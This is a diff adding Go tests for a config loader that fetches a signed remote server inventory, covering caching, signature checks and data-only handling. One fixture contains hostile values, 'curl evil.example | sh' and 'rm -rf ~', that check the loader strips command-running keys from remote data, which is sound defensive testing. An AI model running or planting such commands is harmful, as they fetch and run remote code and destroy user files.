@@ -0,0 +1,122 @@
+package config
+
+import (
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+const remoteBody = "cmdb-web {\n    host: 10.1.0.1\n    user: deploy\n}\n"
+
+func TestRemoteSource(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	var notModified atomic.Int32
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("If-None-Match") == `"v1"` {
+			notModified.Add(1)
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		w.Header().Set("ETag", `"v1"`)
+		w.Header().Set(SignatureHeader, base64.StdEncoding.EncodeToString(ed25519.Sign(priv, []byte(remoteBody))))
+		w.Write([]byte(remoteBody))
+	}))
+
+	m := newTestManager(t)
+	sources := "cmdb {\n    source: " + srv.URL + "\n    public_key: " + base64.StdEncoding.EncodeToString(pub) + "\n}\n"
+	if err := os.WriteFile(m.GetSourcesPath(), []byte(sources), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	load := func() *Inventory {
+		t.Helper()
+		inv, err := m.LoadInventory()
+		if err != nil {
+			t.Fatalf("LoadInventory failed: %v", err)
+		}
+		return inv
+	}
+
+	inv := load()
+	if len(inv.Servers) != 1 || inv.Servers[0].Host != "10.1.0.1" || len(inv.Warnings) != 0 {
+		t.Fatalf("unexpected inventory: %+v", inv)
+	}
+
+	// Second load revalidates with the ETag
+	inv = load()
+	if notModified.Load() != 1 || len(inv.Servers) != 1 {
+		t.Errorf("expected a 304 revalidation, got %d (servers %+v)", notModified.Load(), inv.Servers)
+	}
+
+	// Offline: fall back to the cached copy with a warning
+	srv.Close()
+	inv = load()
+	if len(inv.Servers) != 1 || len(inv.Warnings) != 1 || !strings.Contains(inv.Warnings[0], "cached copy") {
+		t.Errorf("expected cached fallback, got servers %+v warnings %q", inv.Servers, inv.Warnings)
+	}
+}
+
+func TestRemoteSourceRejectsBadSignature(t *testing.T) {
+	pub, _, _ := ed25519.GenerateKey(rand.Reader)
+	_, otherPriv, _ := ed25519.GenerateKey(rand.Reader)
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set(SignatureHeader, base64.StdEncoding.EncodeToString(ed25519.Sign(otherPriv, []byte(remoteBody))))
+		w.Write([]byte(remoteBody))
+	}))
+	defer srv.Close()
+
+	m := newTestManager(t)
+	sources := "cmdb {\n    source: " + srv.URL + "\n    public_key: " + base64.StdEncoding.EncodeToString(pub) + "\n}\n"
+	os.WriteFile(m.GetSourcesPath(), []byte(sources), 0600)
+
+	inv, err := m.LoadInventory()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(inv.Servers) != 0 || len(inv.Warnings) != 1 || !strings.Contains(inv.Warnings[0], "signature") {
+		t.Errorf("expected signature rejection, got servers %+v warnings %q", inv.Servers, inv.Warnings)
+	}
+}
+
+func TestRemoteSourceDataOnly(t *testing.T) {
+	body := "cmdb-web {\n    host: 10.1.0.1\n    password_command: curl evil.example | sh\n    command: rm -rf ~\n    auth_check: yes\n}\n"
+	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set(SignatureHeader, base64.StdEncoding.EncodeToString(ed25519.Sign(priv, []byte(body))))
+		w.Write([]byte(body))
+	}))
+	defer srv.Close()
+
+	m := newTestManager(t)
+	sources := "cmdb {\n    source: " + srv.URL + "\n    public_key: " + base64.StdEncoding.EncodeToString(pub) + "\n}\n"
+	os.WriteFile(m.GetSourcesPath(), []byte(sources), 0600)
+
+	inv, err := m.LoadInventory()
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := inv.Servers[0]
+	if h.Host != "10.1.0.1" || h.PasswordCommand != "" || h.Command != "" || h.AuthCheck {
+		t.Errorf("remote source set keys that run commands: %+v", h)
+	}
+	if len(inv.Warnings) != 1 || !strings.Contains(inv.Warnings[0], "cmdb-web: password_command, cmdb-web: command, cmdb-web: auth_check") {
+		t.Errorf("expected a warning naming the ignored keys, got %q", inv.Warnings)
+	}
+
+	// Without TLS only a signature protects the hosts
+	os.WriteFile(m.GetSourcesPath(), []byte("cmdb {\n    source: "+srv.URL+"\n}\n"), 0600)
+	if _, err := m.LoadInventory(); err == nil || !strings.Contains(err.Error(), "public_key") {
+		t.Errorf("unsigned http source: got %v", err)
+	}
+}